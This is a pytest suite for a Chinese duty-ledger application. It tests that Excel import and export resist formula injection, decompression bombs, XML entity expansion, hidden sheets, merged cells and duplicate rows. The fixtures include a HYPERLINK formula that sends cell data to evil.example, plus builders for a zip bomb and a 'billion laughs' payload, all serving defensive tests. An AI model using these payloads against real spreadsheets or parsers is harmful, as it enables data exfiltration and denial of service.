"""Excel files that attack the ledger: text that would be a live formula on export, a
decompression bomb, hidden sheets and rows, merged cells, formulas in cells, the same rows
imported twice, a 单位 column that names another unit, dates as clerks type them."""

from __future__ import annotations

import zipfile
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from duty_tracker.core.exchange.ledger_xlsx import (
    LEDGER_COLUMNS,
    apply_records,
    export_ledger,
    preview_records,
)
from duty_tracker.core.exchange.roster_xlsx import apply_roster, export_roster, preview_roster
from duty_tracker.core.exchange.xlsx_common import ExchangeError
from duty_tracker.core.storage import audit_queries
from duty_tracker.core.storage.audit_queries import AuditFilter
from tests.conftest import small_rules
from tests.store_helpers import bare_store

HEADERS = [c.header for c in LEDGER_COLUMNS]
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点击查看")', "+86-571-1234", "-减少一项",
           "@SUM(A1:A9)", "=1+1"]


@pytest.fixture
def leader(store, unit_id) -> int:
    return store.people.add_leader("王建国", unit_id, "party", "区委书记", "2020-01-01")


def _cells(path: Path, sheet: str) -> list:
    ws = load_workbook(path)[sheet]  # not read-only: every cell with its type and style
    return [cell for row in ws.iter_rows(min_row=2) for cell in row]


def _assert_text_not_formula(path: Path, sheet: str, texts: list[str]) -> None:
    cells = {c.value: c for c in _cells(path, sheet) if isinstance(c.value, str)}
    for text in texts:
        assert text in cells, (text, sorted(cells))
        assert cells[text].data_type == "s" and cells[text].quotePrefix, text
    with zipfile.ZipFile(path) as zf:
        xml = b"".join(zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml, "a formula was written"


def test_text_that_looks_like_a_formula_is_exported_as_text_and_read_back_unchanged(
        store, leader, unit_id, duty_ids, tmp_path: Path) -> None:
    for i, text in enumerate(HOSTILE):
        store.records.add_record(performed_on=f"2025-03-0{i + 1}", title=text, kind="会议", leader_ids=[leader],
                                 place=text, participants=text, minutes_number=text, description=text,
                                 duty_ids=[duty_ids["党委理论学习中心组学法"]])
    out = tmp_path / "台账.xlsx"
    export_ledger(store, out, 2025, status=True, today=date(2025, 12, 31))
    _assert_text_not_formula(out, "履职纪实台账", HOSTILE)
    fresh = bare_store(tmp_path / "fresh.db")
    fresh.rules.import_parsed(small_rules(), "测试文本", is_default=True)
    roster = tmp_path / "名册.xlsx"
    export_roster(store, roster)
    apply_roster(fresh, preview_roster(fresh, roster))
    preview = preview_records(fresh, out)
    assert preview.ok, preview.error_lines()
    apply_records(fresh, preview)
    rows = fresh.db.execute("SELECT title, place, participants, minutes_number, description FROM records "
                            "ORDER BY performed_on").fetchall()
    assert rows == [(t, t, t, t, t) for t in HOSTILE]
    fresh.close()


def test_names_that_look_like_formulas_stay_text_in_the_status_roster_and_audit_log(store, tmp_path: Path) -> None:
    unit = store.people.add_unit("=HYPERLINK(\"http://x\")单位", "部门")
    store.people.add_leader("@王建国", unit, "other", "-局长", "2020-01-01")
    status = tmp_path / "完成情况.xlsx"
    export_ledger(store, status, 2025, ledger=False, status=True, today=date(2025, 6, 30))
    _assert_text_not_formula(status, "完成情况", ['=HYPERLINK("http://x")单位', "@王建国"])
    roster = tmp_path / "名册.xlsx"
    export_roster(store, roster)
    _assert_text_not_formula(roster, "负责人名册", ['=HYPERLINK("http://x")单位', "@王建国", "-局长"])
    fresh = bare_store(tmp_path / "fresh.db")
    apply_roster(fresh, preview_roster(fresh, roster))
    assert [(r["name"], r["unit_name"], r["position"]) for r in fresh.people.leaders()] == [
        ("@王建国", '=HYPERLINK("http://x")单位', "-局长")]
    fresh.close()
    log = tmp_path / "日志.xlsx"
    try:  # the audit log's workbook moved from storage to exchange at one point
        from duty_tracker.core.exchange.audit_xlsx import export_audit_log
    except ImportError:
        audit_queries.export_xlsx(store.db, log, AuditFilter(table="leaders"))
    else:
        export_audit_log(store, log, AuditFilter(table="leaders"))
    cells = [c for c in _cells(log, "操作日志") if isinstance(c.value, str) and c.value.startswith(("=", "@", "-"))]
    assert cells and all(c.data_type == "s" for c in cells)


def _ledger_book(path: Path, rows: list[list], *, title: str = "履职纪实台账") -> Workbook:
    wb = Workbook()
    ws = wb.active
    ws.title = title
    ws.append(HEADERS)
    for row in rows:
        ws.append(row)
    wb.save(path)
    return wb


def _row(day="2025-04-01", leader="王建国", title="中心组学法", unit="", place=""):  # noqa: ANN001, ANN202
    return [1, day, unit, leader, "", "", "学法", title, place]


def test_a_decompression_bomb_is_refused_before_it_is_read(store, leader, tmp_path: Path) -> None:
    good = tmp_path / "good.xlsx"
    _ledger_book(good, [_row()])
    bomb = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename == "xl/sharedStrings.xml" or info.filename.endswith("sheet1.xml"):
                with dst.open(info.filename, "w", force_zip64=True) as fh:
                    fh.write(b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/'
                             b'spreadsheetml/2006/main">')
                    chunk = b"<si><t>x</t></si>" * 65536
                    for _ in range(260 * (1 << 20) // len(chunk)):
                        fh.write(chunk)
                    fh.write(b"</sst>")
            else:
                dst.writestr(info, src.read(info.filename))
    assert bomb.stat().st_size < 3 << 20  # a few MB on disk …
    with pytest.raises(ExchangeError, match="解压后"):  # … 260 MB inflated: refused unread
        preview_records(store, bomb)
    with pytest.raises(ExchangeError, match="解压后"):
        preview_roster(store, bomb)


def test_a_hidden_sheet_is_never_imported_silently(store, leader, tmp_path: Path) -> None:
    path = tmp_path / "hidden.xlsx"
    wb = _ledger_book(path, [_row(title="看不见的纪实")])
    wb["履职纪实台账"].sheet_state = "hidden"
    decoy = wb.create_sheet("说明")
    decoy.append(["请按模板填写"])
    wb.active = 1
    wb.save(path)
    with pytest.raises(ExchangeError, match="隐藏"):
        preview_records(store, path)
    # Without the template's sheet name, the first *visible* sheet is read, and the hidden one named.
    wb = Workbook()
    hidden = wb.active
    hidden.title = "草稿"
    hidden.append(HEADERS)
    hidden.append(_row(title="草稿里的纪实"))
    hidden.sheet_state = "hidden"
    shown = wb.create_sheet("本表")
    shown.append(HEADERS)
    shown.append(_row(title="本表的纪实"))
    wb.active = 1
    wb.save(path)
    preview = preview_records(store, path)
    assert [r.title for r in preview.rows] == ["本表的纪实"]
    assert any("隐藏的工作表“草稿”未导入" in line for line in preview.error_lines())


def test_hidden_rows_merged_cells_and_formulas_get_their_own_messages(store, leader, tmp_path: Path) -> None:
    path = tmp_path / "layout.xlsx"
    wb = _ledger_book(path, [_row(title="第一条", place="三楼"), _row(title="第二条", leader=None),
                             _row(title="第三条", leader=None), _row(title="隐藏的一条"),
                             _row(title="=B2&\"学法\"")])
    ws = wb.active
    ws.merge_cells("D2:D4")  # one leader for three rows, as clerks like to lay it out
    ws.row_dimensions[5].hidden = True
    wb.save(path)
    preview = preview_records(store, path)
    lines = preview.error_lines()
    assert any(line.startswith("第 3 行（负责人）") and "合并单元格 D2:D4" in line for line in lines), lines
    assert any(line.startswith("第 4 行（负责人）") and "合并单元格 D2:D4" in line for line in lines), lines
    assert any(line.startswith("第 5 行") and "隐藏" in line for line in lines), lines
    assert any(line.startswith("第 6 行（标题）") and "公式" in line for line in lines), lines
    assert not any("不能为空" in line for line in lines), lines
    assert [r.title for r in preview.rows] == ["第一条"]


def test_the_unit_column_is_honoured_even_for_a_unique_name(store, leader, tmp_path: Path) -> None:
    path = tmp_path / "unit.xlsx"
    _ledger_book(path, [_row(unit="东湖区", title="别的单位的纪实"), _row(unit="西湖区", title="本单位的纪实")])
    preview = preview_records(store, path)
    assert [r.title for r in preview.rows] == ["本单位的纪实"]
    assert any("不在单位“东湖区”" in line and "西湖区" in line for line in preview.error_lines())


def test_the_same_rows_imported_twice_are_skipped_unless_asked(store, leader, tmp_path: Path) -> None:
    path = tmp_path / "twice.xlsx"
    _ledger_book(path, [_row(title="学法一"), _row(title="学法二"), _row(title="学法二")])
    first = preview_records(store, path)
    assert [r.title for r in first.rows] == ["学法一", "学法二"] and first.ok
    assert any("与本表第 3 行重复" in line for line in first.error_lines())
    apply_records(store, first)
    again = preview_records(store, path)
    assert again.valid_count == 0 and again.ok and len(again.skipped) == 3
    assert all("已跳过" in line for line in again.error_lines())
    assert store.records.count() == 2
    forced = preview_records(store, path, allow_duplicates=True)
    assert forced.valid_count == 3


def test_dates_as_clerks_type_them_are_read_on_every_import_path(store, leader, unit_id, tmp_path: Path) -> None:
    path = tmp_path / "dates.xlsx"
    _ledger_book(path, [_row(day="2025-5-5 10:00", title="甲"), _row(day="２０２５－０５－０６", title="乙"),
                        _row(day=datetime(2025, 5, 7, 14, 30), title="丙"), _row(day="2025年5月8日 9:00", title="丁"),
                        _row(day="2025/5/9", title="戊")])
    preview = preview_records(store, path)
    assert preview.ok, preview.error_lines()
    assert [r.performed_on for r in preview.rows] == [date(2025, 5, d) for d in range(5, 10)]
    roster = tmp_path / "roster.xlsx"
    wb = Workbook()
    ws = wb.active
    ws.title = "负责人名册"
    ws.append(["单位", "单位层级", "上级单位", "姓名", "职务", "类别", "任职开始", "任职结束"])
    ws.append(["西湖区", "", "", "李清", "区长", "政府", "2021-3-1 00:00", "２０２４－０６－３０"])
    wb.save(roster)
    result = preview_roster(store, roster)
    assert result.ok, result.error_lines()
    assert (result.rows[0].start, result.rows[0].end) == (date(2021, 3, 1), date(2024, 6, 30))


def test_garbage_and_truncated_workbooks_are_refused_in_chinese(store, tmp_path: Path) -> None:
    good = tmp_path / "good.xlsx"
    _ledger_book(good, [_row()])
    data = good.read_bytes()
    for name, content in (("half.xlsx", data[: len(data) // 2]), ("text.xlsx", "不是表格".encode()),
                          ("empty.xlsx", b"")):
        (tmp_path / name).write_bytes(content)
        with pytest.raises(ExchangeError, match="无法读取|不是有效"):
            preview_records(store, tmp_path / name)


def test_a_sheet_with_entity_expansion_is_refused_in_chinese(store, leader, tmp_path: Path) -> None:
    good = tmp_path / "good.xlsx"
    _ledger_book(good, [_row(title="x")])
    entities = '<!ENTITY a0 "哈哈">' + "".join(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))
    laughs = tmp_path / "laughs.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(laughs, "w") as dst:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("sheet1.xml"):
                body = data.decode().split("?>", 1)[-1].replace("<t>x</t>", "<t>&a9;</t>")
                data = f'<?xml version="1.0"?><!DOCTYPE worksheet [{entities}]>{body}'.encode()
            dst.writestr(info, data)
    with pytest.raises(ExchangeError, match="无法读取"):
        preview_records(store, laughs)
